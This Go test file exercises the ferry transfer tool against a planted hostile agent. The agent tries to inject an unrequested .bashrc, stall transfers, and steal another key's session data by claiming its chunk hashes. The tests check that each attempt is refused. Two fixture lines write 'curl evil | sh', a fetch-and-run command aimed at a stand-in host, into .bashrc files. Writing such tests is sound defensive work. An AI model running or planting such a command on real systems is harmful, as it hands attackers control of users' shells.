package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"testing"

	"github.com/ferry-dev/ferry/transfer/agent/agenttest"
	"github.com/ferry-dev/ferry/transfer/agent/agenttest/hostile"
)

// hostileCLIBox is the active gateway with sandbox "box", whose cached
// agent is the hostile one (in box's own TMPDIR), and sandbox "victim",
// honest.
func hostileCLIBox(t *testing.T) (root, victimRoot, scenario string) {
	t.Helper()
	g := activeGateway(t)
	tmp := t.TempDir()
	wantOK(t, runFerry(t, nil, "sandbox", "create", "-q", "-e", "TMPDIR="+tmp, "box"))
	wantOK(t, runFerry(t, nil, "sandbox", "create", "-q", "-e", "TMPDIR="+t.TempDir(), "victim"))
	b, err := agenttest.Build()
	if err != nil {
		t.Fatal(err)
	}
	return filepath.Join(g.Root, "box"), filepath.Join(g.Root, "victim"), hostile.Plant(t, tmp, b, hostile.Scenario{})
}

func servedCLI(t *testing.T, scenario string) {
	t.Helper()
	if n, err := hostile.Served(scenario); err != nil || n == 0 {
		t.Fatalf("the hostile agent did not serve (%d, %v)", n, err)
	}
}

// TestHostileAgentCLI drives the hostile agent through the commands users
// run: cp from the sandbox and pull refuse a name nobody asked for and a
// stall; a session save claiming another key's chunks fails, and the
// victim key restores byte for byte; a save and a restore that stall end.
func TestHostileAgentCLI(t *testing.T) {
	root, victimRoot, scenario := hostileCLIBox(t)
	writeFile(t, filepath.Join(root, "payload", "x"), []byte("asked for"), 0o644)
	writeFile(t, filepath.Join(root, ".bashrc"), []byte("curl evil | sh"), 0o644)
	writeFile(t, filepath.Join(root, "rascal-meta", "meta.json"), []byte("{}"), 0o644)
	writeFile(t, filepath.Join(root, "rascal-meta", ".bashrc"), []byte("curl evil | sh"), 0o644)
	home := t.TempDir()
	writeFile(t, filepath.Join(home, ".bashrc"), []byte("mine"), 0o644)
	mine := func() {
		t.Helper()
		if b, err := os.ReadFile(filepath.Join(home, ".bashrc")); err != nil || string(b) != "mine" {
			t.Fatalf("~/.bashrc after the attack: %q, %v", b, err)
		}
	}

	hostile.Rewrite(t, scenario, hostile.Scenario{GetExtra: []string{".bashrc"}})
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "cp", "box:payload", home+"/"), ".bashrc", "not requested")
	servedCLI(t, scenario)
	mine()
	if _, err := os.Lstat(filepath.Join(home, "payload")); !os.IsNotExist(err) {
		t.Errorf("a refused download placed payload: %v", err)
	}
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "pull", "box", "--out", home), ".bashrc", "not requested")
	servedCLI(t, scenario)
	mine()

	hostile.Rewrite(t, scenario, hostile.Scenario{GetStall: true})
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "cp", "--idle-timeout", "500ms", "box:payload", home+"/"), "idle", "500ms")
	servedCLI(t, scenario)
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "pull", "--idle-timeout", "500ms", "box", "--out", home), "idle", "500ms")
	servedCLI(t, scenario)
	mine()

	store := t.TempDir()
	t.Setenv("FERRY_STORE", store)
	secret := bytes.Repeat([]byte("the victim's secret "), 100)
	writeFile(t, filepath.Join(victimRoot, "sess", "secret"), secret, 0o644)
	wantOK(t, runFerry(t, nil, "-q", "--mode", "agent", "session", "save", "victim:sess", "victim"))
	id := sha256.Sum256(secret)
	writeFile(t, filepath.Join(root, "sess", "f"), bytes.Repeat([]byte("x"), len(secret)), 0o644)
	hostile.Rewrite(t, scenario, hostile.Scenario{Claims: []hostile.Claim{{Path: "f", Chunks: []hostile.Chunk{{ID: hex.EncodeToString(id[:]), Size: int64(len(secret))}}}}})
	r := runFerry(t, nil, "--mode", "agent", "session", "save", "box:sess", "attacker")
	servedCLI(t, scenario)
	wantFailure(t, r, "sess/f", "changed since the scan")
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "session", "restore", "attacker", "box:stolen"), "no such snapshot")
	wantOK(t, runFerry(t, nil, "-q", "--mode", "agent", "session", "restore", "victim", "victim:again"))
	if b, err := os.ReadFile(filepath.Join(victimRoot, "again", "secret")); err != nil || !bytes.Equal(b, secret) {
		t.Fatalf("the victim key after the attack: %v", err)
	}

	// A save and a restore through an agent that stops answering end.
	hostile.Rewrite(t, scenario, hostile.Scenario{ScanStall: true})
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "session", "save", "--idle-timeout", "500ms", "box:sess", "attacker"), "idle", "500ms")
	servedCLI(t, scenario)
	hostile.Rewrite(t, scenario, hostile.Scenario{PutStall: true})
	wantFailure(t, runFerry(t, nil, "--mode", "agent", "session", "restore", "--idle-timeout", "500ms", "victim", "box:stalled"), "idle", "500ms")
	servedCLI(t, scenario)
	if r := runFerry(t, nil, "session", "verify"); r.code != 0 {
		t.Fatalf("verify after the attack: exit %d: %s %s", r.code, r.stdout, r.stderr)
	}
}
